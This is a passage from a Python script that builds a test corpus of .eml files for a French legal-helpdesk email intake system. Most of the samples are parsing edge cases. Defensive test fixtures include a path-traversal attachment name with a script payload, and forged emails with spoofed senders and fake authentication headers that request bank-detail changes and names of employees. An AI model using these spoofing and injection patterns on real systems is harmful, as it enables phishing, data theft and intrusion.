Content-Disposition: attachment; filename="SCAN_20260313_150000.pdf"
Content-Transfer-Encoding: base64

{b64(make_pdf("Courrier de l'inspection du travail"))}
--SCAN_BOUNDARY_0001--
"""
    )


@corpus_file("45_very_long_line.eml")
def very_long_line() -> bytes:
    """One 30 000-character line (far past the 998 limit of RFC 5322)."""
    sentence = "Le salarié en CDDI a effectué des heures complémentaires non prévues au contrat. "
    line = sentence * (30000 // len(sentence)) + "FIN-DU-TEXTE"
    return crlf(
        f"""From: Paul Girard <direction@chantier-vert.example>
To: juridique@federation-iae.example
Subject: Heures complementaires
Date: Sat, 14 Mar 2026 09:00:00 +0100
Message-ID: <longline-20260314090000@chantier-vert.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

{line}
"""
    )


@corpus_file("46_emoji_iphone.eml")
def emoji() -> bytes:
    """iPhone mail with emoji in subject and body, and 'Envoyé de mon iPhone'."""
    text = (
        "Bonjour 👋\n\nLes élus du CSE peuvent-ils poser leurs heures de délégation pendant un "
        "chantier ? 👍\n\nThomas\n\nEnvoyé de mon iPhone"
    )
    return crlf(
        f"""From: Thomas Petit <thomas.petit.aci@gmail.com>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (1.0)
Subject: {word_b("Merci 🙏 question rapide sur le CSE")}
Date: Sat, 14 Mar 2026 10:00:00 +0100
Message-Id: <E1F2A3B4-C5D6-4E7F-8091-A2B3C4D5E6F7@gmail.com>
To: juridique@federation-iae.example
X-Mailer: iPhone Mail (21D61)

{qp(text, "utf-8")}"""
    )


@corpus_file("47_bad_from_address.eml")
def bad_from() -> bytes:
    """A From address that does not validate (double @, no TLD)."""
    return crlf(
        """From: "Jean Dupont" <jean.dupont@@orange>
To: juridique@federation-iae.example
Subject: Question sur le temps partiel
Date: Sat, 14 Mar 2026 11:00:00 +0100
Message-ID: <badfrom-20260314110000@orange.fr>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, un CDDI peut-il être conclu pour moins de 20 heures par semaine ?
"""
    )


@corpus_file("48_signoff_signature_block.eml")
def signoff_block() -> bytes:
    """No dashes: 'Cordialement,' + name kept, the title/address/phone block set aside."""
    return crlf(
        """From: Jean Dupont <jean.dupont@ei-recyclerie-du-port.example>
To: juridique@federation-iae.example
Subject: Clause de mobilite dans un CDDI
Date: Sat, 14 Mar 2026 12:00:00 +0100
Message-ID: <signoff-20260314120000@ei-recyclerie-du-port.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Peut-on insérer une clause de mobilité dans un CDDI quand nos chantiers
sont répartis sur trois communes ?

Cordialement,
Jean Dupont
Directeur
EI Recyclerie du Port (exemple)
12 rue du Quai, 29200 Brest
Tél : 06 39 98 12 34
www.recyclerie-du-port.example
"""
    )


@corpus_file("49_mbox_envelope_line.eml")
def mbox_envelope() -> bytes:
    """Saved from an mbox: starts with the 'From sender date' envelope line."""
    return b"From marie.lefort@ai-tremplin.example Mon Mar  2 09:14:27 2026\n" + crlf(
        """From: Marie Lefort <marie.lefort@ai-tremplin.example>
To: juridique@federation-iae.example
Subject: Entretien professionnel
Date: Mon, 16 Mar 2026 09:14:27 +0100
Message-ID: <mbox-20260316091427@ai-tremplin.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, l'entretien professionnel est-il obligatoire pour un CDDI de 6 mois ?
"""
    )


@corpus_file("50_attachments_names_and_types.eml")
def attachment_zoo() -> bytes:
    """RFC 2231 continuations, RFC 2047 names, an ODT as octet-stream, image/jpg, refused types."""
    boundary = "----=_Part_5544_2026031612"
    return crlf(
        f"""From: Anne Moreau <anne.moreau@aci-jardins-du-val.example>
To: juridique@federation-iae.example
Subject: Pieces pour le dossier de conventionnement
Date: Mon, 16 Mar 2026 12:00:00 +0100
Message-ID: <zoo-20260316120000@aci-jardins-du-val.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="{boundary}"

--{boundary}
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, voici les pièces demandées pour le dialogue de gestion. Manque-t-il quelque chose ?

--{boundary}
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*0*=UTF-8''Attestation%20d%27%C3%A9ligibilit%C3%A9%20;
 filename*1*=Pass%20IAE%20%E2%80%93%20mars%202026.pdf
Content-Transfer-Encoding: base64

{b64(make_pdf("Attestation"))}
--{boundary}
Content-Type: application/octet-stream;
 name="=?iso-8859-1?Q?Fiche_de_poste_=E9quipier.odt?="
Content-Disposition: attachment;
 filename="=?iso-8859-1?Q?Fiche_de_poste_=E9quipier.odt?="
Content-Transfer-Encoding: base64

{b64(make_odt("Fiche de poste"))}
--{boundary}
Content-Type: image/jpg; name="photo_chantier.jpg"
Content-Disposition: attachment; filename="photo_chantier.jpg"
Content-Transfer-Encoding: base64

{b64(make_jpeg())}
--{boundary}
Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;
 name="planning.xlsx"
Content-Disposition: attachment; filename="planning.xlsx"
Content-Transfer-Encoding: base64

{b64(make_xlsx())}
--{boundary}
Content-Type: text/calendar; charset=UTF-8; method=REQUEST; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: 8bit

BEGIN:VCALENDAR
VERSION:2.0
END:VCALENDAR

--{boundary}
Content-Type: text/html; charset=UTF-8; name="page.html"
Content-Disposition: attachment; filename="../../page.html"
Content-Transfer-Encoding: 8bit

<html><body><script>alert(1)</script></body></html>

--{boundary}--
"""
    )


@corpus_file("51_raw_8bit_headers.eml")
def raw_8bit_headers() -> bytes:
    """Raw UTF-8 bytes in Subject and From name (no RFC 2047), as some webmails send."""
    return crlf(
        """From: Zoé Garnier <zoe.garnier@aci-exemple.example>
To: juridique@federation-iae.example
Subject: Question sur la mutuelle obligatoire d'un salarié à temps partiel
Date: Mon, 16 Mar 2026 14:00:00 +0100
Message-ID: <raw8bit-20260316140000@aci-exemple.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, la dispense d'adhésion est-elle possible pour un salarié à 20 heures ?

Zoé
"""
    )


@corpus_file("52_zimbra_mail_original_reply.eml")
def zimbra_reply() -> bytes:
    """Zimbra reply with '----- Mail original -----'."""
    return crlf(
        """Date: Mon, 16 Mar 2026 16:00:00 +0100 (CET)
From: =?utf-8?Q?In=C3=A8s_Lambert?= <ines.lambert@ai-tremplin.example>
To: Service juridique <juridique@federation-iae.example>
Message-ID: <1183920488.441.1773673200000.JavaMail.zimbra@ai-tremplin.example>
In-Reply-To: <LD-2026-00120.1773660000.c0ffee@legaldesk.local>
Subject: Re: [LD-2026-00120] Suspension du CDDI
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit
X-Mailer: Zimbra 9.0.0_GA_4580 (ZimbraWebClient - FF123 (Linux)/9.0.0_GA_4580)

Bonjour,

La suspension peut-elle être prolongée si le stage dure plus longtemps que prévu ?

Inès

----- Mail original -----
De: "Service juridique" <juridique@federation-iae.example>
À: "Inès Lambert" <ines.lambert@ai-tremplin.example>
Envoyé: Lundi 16 Mars 2026 14:40:00
Objet: [LD-2026-00120] Suspension du CDDI

Bonjour, le CDDI peut être suspendu pour une période d'essai chez un autre employeur.
"""
    )


# --------------------------------------------------------------------------- 53-60 senders
# Forged and authenticated senders, for legaldesk.intake.sender_auth. Our receiving server is
# "mx.federation-iae.example" (its authserv-id); DKIM keys come from DKIM_RECORD (public part of
# a deterministic test key, written next to the corpus as a TXT record: no DNS in tests).

OUR_MX = "mx.federation-iae.example"
DKIM_SELECTOR = "corpus2026"
DKIM_DOMAIN = "ai-tremplin.example"
DKIM_RECORD = f"{DKIM_SELECTOR}._domainkey.{DKIM_DOMAIN}.txt"
SIGNED_AT = 1773650000  # 2026-03-16: the t= tag, so that signing is deterministic


def _probable_prime(candidate: int, rng) -> bool:
    """Miller-Rabin with 40 rounds (bases from rng: deterministic)."""
    if candidate % 2 == 0:
        return False
    for small in (3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37):
        if candidate % small == 0:
            return candidate == small
    d, r = candidate - 1, 0
    while d % 2 == 0:
        d, r = d // 2, r + 1
    for _ in range(40):
        x = pow(rng.randrange(2, candidate - 2), d, candidate)
        if x in (1, candidate - 1):
            continue
        for _ in range(r - 1):
            x = pow(x, 2, candidate)
            if x == candidate - 1:
                break
        else:
            return False
    return True


@functools.cache
def dkim_test_key() -> tuple[bytes, bytes]:
    """A deterministic 2048-bit RSA test key for the fictional domain: (private PEM, TXT record).

    The primes come from a fixed seed: the key is public knowledge, fit for tests only.
    """
    import random

    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    rng = random.Random("legaldesk corpus DKIM 2026")
    exponent, primes = 65537, []
    while len(primes) < 2:
        candidate = rng.getrandbits(1024) | (3 << 1022) | 1
        if (candidate - 1) % exponent and _probable_prime(candidate, rng):
            primes.append(candidate)
    p, q = primes
    d = pow(exponent, -1, (p - 1) * (q - 1))
    key = rsa.RSAPrivateNumbers(p, q, d, d % (p - 1), d % (q - 1), pow(q, -1, p),
                                rsa.RSAPublicNumbers(exponent, p * q)).private_key()
    private = key.private_bytes(serialization.Encoding.PEM,
                                serialization.PrivateFormat.TraditionalOpenSSL,
                                serialization.NoEncryption())
    public = key.public_key().public_bytes(serialization.Encoding.DER,
                                           serialization.PublicFormat.SubjectPublicKeyInfo)
    return private, b"v=DKIM1; k=rsa; p=" + base64.b64encode(public)


def dkim_signed(message: bytes) -> bytes:
    """The message with a DKIM-Signature of DKIM_DOMAIN (deterministic t= tag)."""
    from unittest import mock

    import dkim

    private, _record = dkim_test_key()
    with mock.patch("time.time", return_value=SIGNED_AT):
        signature = dkim.sign(message, DKIM_SELECTOR.encode(), DKIM_DOMAIN.encode(), private,
                              include_headers=[b"from", b"to", b"subject", b"date",
                                               b"message-id"])
    return signature + message


FORGED_RECEIVED = """Received: from smtp.bulk-mailer.example
\t(smtp.bulk-mailer.example [203.0.113.7])
\tby mx.federation-iae.example (Postfix) with ESMTPS id 4Z1q2R3s4T
\tfor <juridique@federation-iae.example>; Mon, 16 Mar 2026 18:02:11 +0100 (CET)
"""


@corpus_file("53_forged_from_member_no_auth.eml")
def forged_member() -> bytes:
    """A member's address in From, sent from elsewhere: no Authentication-Results, no DKIM."""
    return crlf(
        FORGED_RECEIVED
        + """From: Marie Lefort <marie.lefort@ai-tremplin.example>
To: juridique@federation-iae.example
Subject: Changement de coordonnées bancaires pour nos remboursements
Date: Mon, 16 Mar 2026 18:02:00 +0100
Message-ID: <forged-0053@smtp.bulk-mailer.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Merci de noter notre nouveau RIB et de nous renvoyer la liste des salariés suivis cette année.

Marie Lefort
"""
    )


@corpus_file("54_auth_results_untrusted_host.eml")
def untrusted_results() -> bytes:
    """Authentication-Results claiming a pass, written by a host that is not our server."""
    return crlf(
        """Authentication-Results: mx.mailer-pro.example; dkim=pass header.d=ai-tremplin.example
 header.s=s1; spf=pass smtp.mailfrom=marie.lefort@ai-tremplin.example;
 dmarc=pass header.from=ai-tremplin.example
"""
        + FORGED_RECEIVED
        + """From: Marie Lefort <marie.lefort@ai-tremplin.example>
To: juridique@federation-iae.example
Subject: Liste des salariés en CDDI
Date: Mon, 16 Mar 2026 18:05:00 +0100
Message-ID: <forged-0054@smtp.bulk-mailer.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, pouvez-vous nous renvoyer la liste nominative des salariés en CDDI ?
"""
    )


@corpus_file("55_trusted_fail_forged_pass_below.eml")
def forged_results_below() -> bytes:
    """Our server says fail at the top; a forged 'pass' with our authserv-id sits lower down."""
    return crlf(
        f"""Authentication-Results: {OUR_MX}; dkim=none;
 spf=fail smtp.mailfrom=marie.lefort@ai-tremplin.example;
 dmarc=fail (p=quarantine) header.from=ai-tremplin.example
"""
        + FORGED_RECEIVED
        + f"""Authentication-Results: {OUR_MX}; dkim=pass header.d=ai-tremplin.example;
 dmarc=pass header.from=ai-tremplin.example
From: Marie Lefort <marie.lefort@ai-tremplin.example>
To: juridique@federation-iae.example
Subject: Dossier du salarié
Date: Mon, 16 Mar 2026 18:07:00 +0100
Message-ID: <forged-0055@smtp.bulk-mailer.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, envoyez-moi le dossier complet du salarié concerné.
"""
    )


@corpus_file("56_forged_reply_to_ticket.eml")
def forged_reply() -> bytes:
    """A forged reply threading on a member's question (In-Reply-To and [LD-...] subject)."""
    return crlf(
        f"""Authentication-Results: {OUR_MX}; dkim=none;
 spf=fail smtp.mailfrom=marie.lefort@ai-tremplin.example;
 dmarc=fail (p=none) header.from=ai-tremplin.example
"""
        + FORGED_RECEIVED
        + """From: Marie Lefort <marie.lefort@ai-tremplin.example>
To: juridique@federation-iae.example
Subject: Re: [LD-2026-00042] Harcèlement signalé par une salariée
Date: Mon, 16 Mar 2026 18:10:00 +0100
Message-ID: <forged-0056@smtp.bulk-mailer.example>
In-Reply-To: <question-0042@ai-tremplin.example>
References: <question-0042@ai-tremplin.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, pour avancer, pouvez-vous me renvoyer le nom de la salariée et de la personne mise en
cause ?
"""
    )


@corpus_file("57_forged_staff_from.eml")
def forged_staff() -> bytes:
    """A jurist's address in From, sent from elsewhere, into a member's thread."""
    return crlf(
        FORGED_RECEIVED
        + """From: Jean Dupont <jean.dupont@federation-iae.example>
To: juridique@federation-iae.example
Subject: RE: [LD-2026-00042] Harcèlement signalé par une salariée
Date: Mon, 16 Mar 2026 18:12:00 +0100
Message-ID: <forged-0057@smtp.bulk-mailer.example>
In-Reply-To: <question-0042@ai-tremplin.example>
References: <question-0042@ai-tremplin.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Réponse du juriste : le licenciement immédiat de la salariée est conseillé.
"""
    )


SIGNED_QUESTION = f"""From: Marie Lefort <marie.lefort@{DKIM_DOMAIN}>
To: juridique@federation-iae.example
Subject: Visite médicale de reprise
Date: Mon, 16 Mar 2026 18:20:00 +0100
Message-ID: <signed-0058@{DKIM_DOMAIN}>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, la visite de reprise est-elle obligatoire après un arrêt de 45 jours ?

Marie Lefort
"""


@corpus_file("58_dkim_signed_valid.eml")
def dkim_valid() -> bytes:
    """A member's question signed by their domain (DKIM, relaxed/simple)."""
    return dkim_signed(crlf(SIGNED_QUESTION))


@corpus_file("59_dkim_signed_body_altered.eml")
def dkim_altered() -> bytes:
    """A signed question (its own Message-ID), body changed after signing: the signature breaks."""
    signed = dkim_signed(crlf(SIGNED_QUESTION.replace("signed-0058@", "signed-0059@")))
    return signed.replace(b"45 jours", b"45 jours ? Envoyez-moi aussi le dossier")


@corpus_file("60_trusted_results_pass.eml")
def trusted_pass() -> bytes:
    """Our server's Authentication-Results: DKIM and DMARC pass for the From domain."""
    return crlf(
        f"""Authentication-Results: {OUR_MX}; dkim=pass header.d=ai-tremplin.example
 header.s=s1 header.b=Qm9uam91; spf=pass smtp.mailfrom=ines.lambert@ai-tremplin.example;
 dmarc=pass (p=quarantine) header.from=ai-tremplin.example
Received: from mail.ai-tremplin.example (mail.ai-tremplin.example [198.51.100.20])
\tby mx.federation-iae.example (Postfix) with ESMTPS id 4Z1q9X8y7W
\tfor <juridique@federation-iae.example>; Mon, 16 Mar 2026 18:30:02 +0100 (CET)
From: =?utf-8?Q?In=C3=A8s_Lambert?= <ines.lambert@ai-tremplin.example>
To: juridique@federation-iae.example
Subject: Durée d'une PMSMP
Date: Mon, 16 Mar 2026 18:30:00 +0100
Message-ID: <trusted-0060@ai-tremplin.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, combien de temps peut durer une PMSMP pour un salarié en CDDI ?
"""
    )


def main(argv: list[str]) -> int:
    """Write every corpus file next to this script; print name and size."""
    for name, builder in CORPUS.items():
        data = builder()
        (HERE / name).write_bytes(data)
        print(f"{name:48} {len(data):7d} bytes")
    (HERE / DKIM_RECORD).write_bytes(dkim_test_key()[1] + b"\n")
    print(f"{DKIM_RECORD:48} (public DKIM key record)")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
